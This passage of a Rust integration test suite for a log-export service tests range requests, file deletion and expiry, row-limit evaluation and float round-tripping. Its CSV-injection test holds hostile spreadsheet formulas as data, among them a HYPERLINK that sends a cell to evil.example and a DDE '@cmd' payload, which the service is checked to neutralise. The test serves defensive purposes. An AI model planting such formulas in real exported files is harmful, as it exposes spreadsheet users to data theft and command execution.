        let (status, _) = problem(send(svc.get(&path, token)).await).await;
        assert_eq!(status, 404, "{path}");
    }
}

/// Ranges at the edges of `u64` and of the file answer as RFC 9110 says: a last
/// position past the end (even `u64::MAX` or more digits than `u64` holds) is 206 up
/// to the end, a suffix longer than the file is the whole file, a start past the end
/// or an invalid range is 416 with `bytes */size`; nothing wraps, panics or answers 5xx.
#[tokio::test]
async fn range_edges_answer_206_or_416_and_never_wrap() {
    let svc = Service::start().await;
    some_clicks(&svc, ACME, 10).await;
    let (job, parts) = svc.export(ACME, &clicks_request("csv", "none")).await;
    let url = job["parts"][0]["url"].as_str().unwrap();
    let body = &parts[0];
    let size = body.len();
    let max = u64::MAX;
    for (range, start) in [
        (format!("bytes=0-{max}"), 0),
        (format!("bytes=7-{max}"), 7),
        (format!("bytes=0-{}", max - 1), 0),
        ("bytes=3-99999999999999999999999999999".to_string(), 3),
        (format!("bytes=-{max}"), 0),
        ("bytes=-99999999999999999999999999999".to_string(), 0),
    ] {
        let resp = send(svc.get(url, ACME).header("range", range.as_str())).await;
        assert_eq!(resp.status(), 206, "{range}");
        assert_eq!(
            header(&resp, "content-range"),
            Some(format!("bytes {start}-{}/{size}", size - 1)),
            "{range}"
        );
        assert_eq!(resp.bytes().await.unwrap(), body[start..], "{range}");
    }
    for range in [
        format!("bytes={max}-"),
        format!("bytes={max}-{max}"),
        format!("bytes={size}-{max}"),
        "bytes=99999999999999999999999999999-".to_string(),
        "bytes=9-3".to_string(),
        "bytes=abc".to_string(),
        "bytes=-".to_string(),
        "bytes=+1-2".to_string(),
        "bytes=1-2-3".to_string(),
    ] {
        let resp = send(svc.get(url, ACME).header("range", range.as_str())).await;
        assert_eq!(
            header(&resp, "content-range"),
            Some(format!("bytes */{size}")),
            "{range}"
        );
        let (status, _) = problem(resp).await;
        assert_eq!(status, 416, "{range}");
    }
    // Several ranges (one overflowing) or garbage after the unit: the whole file.
    for range in [format!("bytes=0-1,5-{max}"), "pages=1-2".to_string()] {
        let resp = send(svc.get(url, ACME).header("range", range.as_str())).await;
        assert_eq!(resp.status(), 200, "{range}");
        assert_eq!(resp.bytes().await.unwrap(), body[..], "{range}");
    }
    // The server is still answering normally.
    let resp = send(svc.get(url, ACME)).await;
    assert_eq!(resp.status(), 200);
}

/// `csv_excel_safe: true` neutralises CSV injection for spreadsheet users: a text
/// value (String, Nullable(String), LowCardinality(String)) starting with `=`, `+`,
/// `-`, `@`, a tab or a carriage return gets a leading `'` in CSV and TSV; numbers (a
/// negative one too), NULLs, enums and values with such characters elsewhere are
/// untouched. Off by default, so the same export round-trips the stored text exactly;
/// JSON formats refuse it (422).
#[tokio::test]
async fn csv_excel_safe_neutralises_formula_cells_and_is_off_by_default() {
    let schemas = schema_dir();
    let svc = Service::start_with(
        Options::default().env("LOGPORT_SCHEMA_DIR", schemas.path().to_str().unwrap()),
    )
    .await;
    let hostile = [
        "=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+SUM(A1:A9)",
        "-2+3",
        "@cmd|' /C calc'!A0",
        "\t=tab first",
        "\r=cr first",
        "plain",
        "a=b+c-d@e",
        "",
        "'=already quoted",
        "é=not first",
    ];
    let rows: Vec<Value> = hostile
        .iter()
        .enumerate()
        .map(|(i, text)| {
            probe(
                i as u32 + 1,
                json!({"text": text, "label": text, "signed": -(i as i64) - 1,
                       "ratio": -0.5, "text_null": if i % 2 == 0 { Value::Null } else { json!(text) }}),
            )
        })
        .collect();
    svc.ingest(ACME, "bi_probe", &rows).await;
    let fields = [
        "probe_id",
        "text",
        "text_null",
        "label",
        "signed",
        "ratio",
        "kind",
    ];
    let request = |format: &str, safe: Option<bool>| {
        let mut r = json!({"slice": "bi_probe", "date_since": "2026-11-05",
                           "date_until": "2026-11-05", "fields": fields, "format": format});
        if let Some(safe) = safe {
            r["csv_excel_safe"] = json!(safe);
        }
        r
    };
    let neutral = |s: &str| {
        if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            format!("'{s}")
        } else {
            s.to_string()
        }
    };
    let by_id = |records: Vec<Vec<String>>| {
        records
            .into_iter()
            .map(|r| (r[0].clone(), r))
            .collect::<BTreeMap<_, _>>()
    };

    // CSV, with and without the option.
    for safe in [Some(true), Some(false), None] {
        let (job, parts) = svc.export(ACME, &request("csv", safe)).await;
        assert_eq!(
            job["request"]["csv_excel_safe"],
            safe.map_or(Value::Null, Value::from)
        );
        let (header, records) = parse_csv(&parts.concat());
        assert_eq!(header, fields);
        let got = by_id(records);
        assert_eq!(got.len(), hostile.len());
        for (i, text) in hostile.iter().enumerate() {
            let row = &got[&format!("p{:02}", i + 1)];
            let want = |s: &str| {
                if safe == Some(true) {
                    neutral(s)
                } else {
                    s.to_string()
                }
            };
            assert_eq!(row[1], want(text), "{safe:?} text of {text:?}");
            assert_eq!(row[3], want(text), "{safe:?} label of {text:?}");
            let null_or = if i % 2 == 0 {
                String::new()
            } else {
                want(text)
            };
            assert_eq!(row[2], null_or, "{safe:?} text_null of {text:?}");
            assert_eq!(
                row[4],
                format!("-{}", i + 1),
                "a negative number stays a number"
            );
            assert_eq!(row[5], "-0.5");
            assert_eq!(row[6], "visit");
        }
    }

    // TSV: the same values in ClickHouse's escaping (a tab is `\t`, a CR `\r`, a
    // quote `\'`), so no raw cell starts with a formula character either.
    let (_, parts) = svc.export(ACME, &request("tsv", Some(true))).await;
    let text = String::from_utf8(parts.concat()).unwrap();
    let mut lines = text.lines();
    assert_eq!(lines.next().unwrap(), fields.join("\t"));
    let got: BTreeMap<String, Vec<String>> = lines
        .map(|l| {
            let cells: Vec<String> = l.split('\t').map(String::from).collect();
            (cells[0].clone(), cells)
        })
        .collect();
    assert_eq!(got.len(), hostile.len());
    for (i, text) in hostile.iter().enumerate() {
        let row = &got[&format!("p{:02}", i + 1)];
        assert!(
            !row[1].starts_with(['=', '+', '-', '@']),
            "raw tsv cell {:?}",
            row[1]
        );
        assert_eq!(
            tsv_unescape(&row[1]).as_deref(),
            Some(neutral(text).as_str()),
            "tsv text of {text:?}"
        );
        assert_eq!(
            tsv_unescape(&row[3]).as_deref(),
            Some(neutral(text).as_str()),
            "tsv label of {text:?}"
        );
        assert_eq!(row[4], format!("-{}", i + 1));
    }

    // Not for JSON.
    for format in ["jsonl", "json", "parquet"] {
        let (status, body) = problem(
            send(
                svc.post("/v1/exports", ACME)
                    .json(&request(format, Some(true))),
            )
            .await,
        )
        .await;
        assert_eq!(status, 422, "{format}: {body}");
        assert_eq!(body["field"], "csv_excel_safe", "{body}");
    }
}

// ---------------------------------------------------------------------------------
// Deleting, expiring and sweeping files
// ---------------------------------------------------------------------------------

/// Every regular file under `dir` (relative paths).
fn files_under(dir: &Path) -> BTreeSet<String> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeSet<String>) {
        let Ok(entries) = std::fs::read_dir(dir) else {
            return;
        };
        for e in entries {
            let path = e.unwrap().path();
            if path.is_dir() {
                walk(root, &path, out);
            } else {
                out.insert(path.strip_prefix(root).unwrap().display().to_string());
            }
        }
    }
    let mut out = BTreeSet::new();
    walk(dir, dir, &mut out);
    out
}

/// What a succeeded job's files look like after they are gone: the job is `expired`,
/// parts and manifest answer 410, and nothing is left under its prefix.
async fn assert_gone(svc: &Service, id: &str) {
    let job: Value = send(svc.get(&format!("/v1/exports/{id}"), ACME))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(job["status"], "expired", "{job}");
    for path in [
        format!("/v1/exports/{id}/parts/1"),
        format!("/v1/exports/{id}/manifest"),
    ] {
        let (status, body) = problem(send(svc.get(&path, ACME)).await).await;
        assert_eq!(status, 410, "{path}: {body}");
    }
    let left = files_under(&svc.object_store_dir().join("exports/acme").join(id));
    assert!(left.is_empty(), "files left behind: {left:?}");
}

/// DELETE removes the files at once and the job becomes `expired`; it is idempotent,
/// tenant-scoped, and cancels a job that has not run.
#[tokio::test]
async fn delete_removes_the_files_and_expires_the_job() {
    let svc = Service::start().await;
    some_clicks(&svc, ACME, 12).await;
    let keep = svc.export(ACME, &clicks_request("csv", "none")).await.0;
    let (job, _) = svc
        .export(
            ACME,
            &json!({"slice": "clicks", "date_since": "2026-11-05", "date_until": "2026-11-05",
                "part_max_rows": 5, "format": "jsonl", "compression": "gzip"}),
        )
        .await;
    let id = id_of(&job);
    assert_eq!(job["parts"].as_array().unwrap().len(), 3);
    let job_dir = svc.object_store_dir().join("exports/acme").join(&id);
    assert_eq!(files_under(&job_dir).len(), 4, "3 parts and the manifest");

    // Another tenant cannot delete it.
    let (status, _) = problem(send(svc.delete(&format!("/v1/exports/{id}"), GLOBEX)).await).await;
    assert_eq!(status, 404);
    assert_eq!(files_under(&job_dir).len(), 4);

    let delete = || svc.delete(&format!("/v1/exports/{id}"), ACME);
    let resp = send(delete()).await;
    assert_eq!(resp.status(), 204);
    assert!(resp.bytes().await.unwrap().is_empty());
    assert_gone(&svc, &id).await;
    // Again: nothing left to do, same answer.
    assert_eq!(send(delete()).await.status(), 204);
    assert_gone(&svc, &id).await;
    // Unknown ids are 404.
    let (status, _) =
        problem(send(svc.delete("/v1/exports/0123456789abcdef0123456789abcdef", ACME)).await).await;
    assert_eq!(status, 404);
    // The other export is untouched.
    let other = id_of(&keep);
    let resp = send(svc.get(&format!("/v1/exports/{other}/parts/1"), ACME)).await;
    assert_eq!(resp.status(), 200);
    assert_eq!(
        sha256_hex(&resp.bytes().await.unwrap()),
        keep["parts"][0]["sha256"].as_str().unwrap()
    );

    // A job no worker has run yet is canceled by DELETE.
    let mut svc = svc;
    svc.restart_with(Options::default().env("LOGPORT_WORKERS", "0"))
        .await;
    let queued = id_of(
        &svc.create_export(ACME, &clicks_request("csv", "none"))
            .await,
    );
    let resp = send(svc.delete(&format!("/v1/exports/{queued}"), ACME)).await;
    assert_eq!(resp.status(), 204);
    let job: Value = send(svc.get(&format!("/v1/exports/{queued}"), ACME))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(job["status"], "canceled", "{job}");
}

/// Polls `f` until it is true; panics after `within`.
async fn eventually<F, Fut>(within: Duration, what: &str, mut f: F)
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = bool>,
{
    let deadline = Instant::now() + within;
    loop {
        if f().await {
            return;
        }
        assert!(Instant::now() < deadline, "{what} within {within:?}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// With LOGPORT_EXPORT_TTL=1s the janitor (every second) deletes the files and marks
/// the job expired.
#[tokio::test]
async fn files_expire_after_the_ttl() {
    let svc = Service::start_with(
        Options::default()
            .env("LOGPORT_EXPORT_TTL", "1s")
            .env("LOGPORT_JANITOR_INTERVAL", "1s"),
    )
    .await;
    some_clicks(&svc, ACME, 8).await;
    let created = svc
        .create_export(ACME, &clicks_request("csv", "gzip"))
        .await;
    let id = id_of(&created);
    let job = svc.wait_export(ACME, &id).await;
    // It may already be expired by the time we look; succeeded first, then expired.
    assert!(
        job["status"] == "succeeded" || job["status"] == "expired",
        "{job}"
    );
    let job_dir = svc.object_store_dir().join("exports/acme").join(&id);
    eventually(Duration::from_secs(15), "the job expires", || async {
        let job: Value = send(svc.get(&format!("/v1/exports/{id}"), ACME))
            .await
            .json()
            .await
            .unwrap();
        job["status"] == "expired"
    })
    .await;
    let job: Value = send(svc.get(&format!("/v1/exports/{id}"), ACME))
        .await
        .json()
        .await
        .unwrap();
    let (finished, expires) = (
        job["finished_at"].as_str().unwrap(),
        job["expires_at"].as_str().unwrap(),
    );
    assert!(expires > finished, "{job}");
    assert_eq!(
        job["progress"]["rows"], 8,
        "the job keeps its counts: {job}"
    );
    assert_gone(&svc, &id).await;
    assert!(files_under(&job_dir).is_empty());
    // Listed as expired too.
    let list: Value = send(svc.get("/v1/exports?status=expired", ACME))
        .await
        .json()
        .await
        .unwrap();
    assert!(
        list["exports"]
            .as_array()
            .unwrap()
            .iter()
            .any(|j| j["id"] == id),
        "{list}"
    );
}

/// With LOGPORT_ORPHAN_SWEEP_INTERVAL=1s, attempt directories no job serves (a job the
/// store does not know, an attempt that was not published) disappear; the published
/// attempt and files outside the export layout stay.
#[tokio::test]
async fn the_orphan_sweep_removes_only_unpublished_attempts() {
    let svc =
        Service::start_with(Options::default().env("LOGPORT_ORPHAN_SWEEP_INTERVAL", "1s")).await;
    some_clicks(&svc, ACME, 10).await;
    let (job, parts) = svc.export(ACME, &clicks_request("csv", "none")).await;
    let id = id_of(&job);
    let root = svc.object_store_dir().to_path_buf();
    let published = files_under(&root.join("exports/acme").join(&id));
    assert_eq!(
        published,
        BTreeSet::from([
            "1/manifest.json".to_string(),
            "1/part-00001.csv".to_string()
        ])
    );

    let unknown = uuid::Uuid::new_v4().simple().to_string();
    let planted = [
        format!("exports/acme/{unknown}/1/part-00001.csv"),
        format!("exports/acme/{unknown}/1/manifest.json"),
        format!("exports/acme/{id}/2/part-00001.csv"),
        format!("exports/globex/{unknown}/3/part-00001.csv.gz"),
    ];
    for key in &planted {
        let path = root.join(key);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, b"click_id\norphan\n").unwrap();
    }
    // Not in the export layout: not the sweep's to judge.
    let stray = root.join("exports/README.txt");
    std::fs::write(&stray, b"keep me").unwrap();

    eventually(Duration::from_secs(15), "the orphans are swept", || async {
        planted.iter().all(|k| !root.join(k).exists())
    })
    .await;
    // The published attempt is intact and still served.
    assert_eq!(files_under(&root.join("exports/acme").join(&id)), published);
    assert!(
        stray.exists(),
        "the sweep removed a file outside the export layout"
    );
    let resp = send(svc.get(&format!("/v1/exports/{id}/parts/1"), ACME)).await;
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.bytes().await.unwrap().to_vec(), parts[0]);
    let job: Value = send(svc.get(&format!("/v1/exports/{id}"), ACME))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(job["status"], "succeeded");
}

// ---------------------------------------------------------------------------------
// Evaluate
// ---------------------------------------------------------------------------------

/// `evaluate` counts exactly what an export would hold (range, filters, limit, tenant)
/// and says `possible: false` with a reason past LOGPORT_MAX_ROWS_PER_EXPORT.
#[tokio::test]
async fn evaluate_counts_exactly_and_refuses_past_the_row_limit() {
    let mut svc = Service::start().await;
    some_clicks(&svc, ACME, 7).await; // 3 of them US (i % 3 == 0)
    svc.ingest(
        ACME,
        "clicks",
        &[
            json!({"click_id": "before", "event_time": "2026-11-04 23:59:59"}),
            json!({"click_id": "after", "event_time": "2026-11-06 00:00:00"}),
        ],
    )
    .await;
    some_clicks(&svc, GLOBEX, 4).await;

    let evaluate = |svc: &Service, token: &'static str, body: Value| {
        let rb = svc.post("/v1/exports/evaluate", token).json(&body);
        async move {
            let resp = send(rb).await;
            let status = resp.status().as_u16();
            let v: Value = resp.json().await.unwrap();
            assert_eq!(status, 200, "{v}");
            v
        }
    };
    let day = json!({"slice": "clicks", "date_since": "2026-11-05", "date_until": "2026-11-05"});
    let mut us = day.clone();
    us["filters"] = json!([{"field": "country_code", "op": "eq", "value": "US"}]);
    let mut limited = day.clone();
    limited["limit"] = json!(2);
    let mut wide = day.clone();
    wide["date_since"] = json!("2026-11-04");
    wide["date_until"] = json!("2026-11-06");

    for (token, body, rows) in [
        (ACME, &day, 7),
        (ACME, &us, 3),
        (ACME, &limited, 2),
        (ACME, &wide, 9),
        (GLOBEX, &day, 4),
    ] {
        let v = evaluate(&svc, token, body.clone()).await;
        assert_eq!(v["estimated_rows"], rows, "{body}: {v}");
        assert_eq!(v["possible"], true, "{v}");
        assert_eq!(v["reason"], Value::Null, "{v}");
        assert!(v["estimated_bytes"].as_u64().unwrap() > 0, "{v}");
    }
    // And the export holds exactly that many.
    let (job, _) = svc.export(ACME, &us).await;
    assert_eq!(job["progress"]["rows"], 3);

    svc.restart_with(Options::default().env("LOGPORT_MAX_ROWS_PER_EXPORT", "5"))
        .await;
    let v = evaluate(&svc, ACME, day.clone()).await;
    assert_eq!(v["possible"], false, "{v}");
    assert_eq!(v["estimated_rows"], 7, "{v}");
    let reason = v["reason"]
        .as_str()
        .unwrap_or_else(|| panic!("no reason: {v}"));
    assert!(reason.contains('7') && reason.contains('5'), "{reason}");
    let v = evaluate(&svc, ACME, us.clone()).await;
    assert_eq!(v["possible"], true, "{v}");
    assert_eq!(v["estimated_rows"], 3);
    let v = evaluate(&svc, ACME, limited.clone()).await;
    assert_eq!(v["possible"], true, "a limit brings it under: {v}");
    // Creating what evaluate refused is refused the same way.
    let (status, body) = problem(send(svc.post("/v1/exports", ACME).json(&day)).await).await;
    assert_eq!(status, 429, "{body}");
}

// ---------------------------------------------------------------------------------
// Floats, bit for bit
// ---------------------------------------------------------------------------------

/// Doubles whose shortest decimal form needs all 17 significant digits, and the
/// largest Float32, survive ingest → ClickHouse → export unchanged (as every reader
/// sees them). A JSON number parser that is not exact (serde_json without its
/// `float_roundtrip` feature) stores 0.9999999999999999 as 1.0 and refuses
/// 3.4028234663852886e38 (f32::MAX) as out of range for Float32.
#[tokio::test]
async fn floats_survive_ingest_bit_for_bit() {
    let schemas = schema_dir();
    let svc = Service::start_with(
        Options::default().env("LOGPORT_SCHEMA_DIR", schemas.path().to_str().unwrap()),
    )
    .await;
    let doubles = [
        0.999_999_999_999_999_9,
        4.450_147_717_014_402_3e-308,
        2.225_073_858_507_201e-308,
        1.797_693_134_862_315_5e308,
        1.000_000_000_000_000_2,
        0.1,
    ];
    let rows: Vec<Value> = doubles
        .iter()
        .enumerate()
        .map(|(i, d)| {
            json!({"probe_id": format!("f{i}"), "event_time": "2026-11-05 08:00:00",
                "ratio": d, "amount": -d})
        })
        .collect();
    svc.ingest(ACME, "bi_probe", &rows).await;
    let fields = ["probe_id", "ratio", "amount"];
    let columns = columns_of(&svc, "bi_probe", &fields).await;
    let files = tempfile::tempdir().unwrap();
    let mut exports = Vec::new();
    for format in ["csv", "jsonl", "parquet"] {
        let (job, _) = svc
            .export(
                ACME,
                &json!({"slice": "bi_probe", "date_since": "2026-11-05", "date_until": "2026-11-05",
                    "fields": fields, "format": format}),
            )
            .await;
        let dir = files.path().join(format);
        std::fs::create_dir(&dir).unwrap();
        let parts = download_all(&svc, ACME, &job, format, "none", &dir).await;
        exports.push(json!({
            "name": format!("floats-{format}"), "dataset": "floats", "format": format,
            "compression": "none", "utf8_bom": false,
            "files": parts.iter().map(|p| p.path.display().to_string()).collect::<Vec<_>>(),
            "part_rows": parts.iter().map(|p| p.rows).collect::<Vec<_>>(),
        }));
    }
    let expected: Vec<Value> = rows
        .iter()
        .map(|r| json!({"probe_id": r["probe_id"], "ratio": r["ratio"], "amount": r["amount"]}))
        .collect();
    let spec = json!({
        "datasets": {"floats": {"key": "probe_id", "columns": columns, "rows": expected}},
        "exports": exports,
    });
    let spec_path = files.path().join("spec.json");
    std::fs::write(&spec_path, serde_json::to_vec_pretty(&spec).unwrap()).unwrap();
    println!("{}", run_checker(&spec_path));

    // The largest Float32 is a Float32.
    let resp = send(
        svc.post("/v1/ingest/bi_probe", ACME)
            .header("content-type", "application/x-ndjson")
            .body(format!(
                "{}\n",
                json!({"probe_id": "f32max", "event_time": "2026-11-05 08:00:00", "ratio32": f64::from(f32::MAX)})
            )),
    )
    .await;
    let status = resp.status();
    assert_eq!(
        status,
        200,
        "f32::MAX ({:e}) was refused: {}",
        f64::from(f32::MAX),
        resp.text().await.unwrap()
    );
}
